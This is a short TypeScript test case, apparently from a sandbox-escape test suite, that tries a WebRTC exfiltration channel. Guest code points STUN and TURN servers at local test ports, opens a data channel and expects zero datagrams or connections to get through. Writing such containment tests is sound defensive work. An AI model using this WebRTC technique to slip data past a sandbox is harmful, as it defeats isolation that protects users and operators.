import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '17',
  group: 'exfiltration',
  title: 'reach a STUN and a TURN server by WebRTC',
  expected: '0 datagrams, 0 connections',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, udpPort, pause }) {
    const tcpPort = new URL(evil).port;
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udpPort}` },
        { urls: `turn:127.0.0.1:${udpPort}?transport=udp`, username: 'secret', credential: 'secret' },
        { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, username: 'secret', credential: 'secret' },
      ],
      iceCandidatePoolSize: 4,
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await pause(2000);
    peer.close();
    return null;
  },
  judge: () => undefined,
};
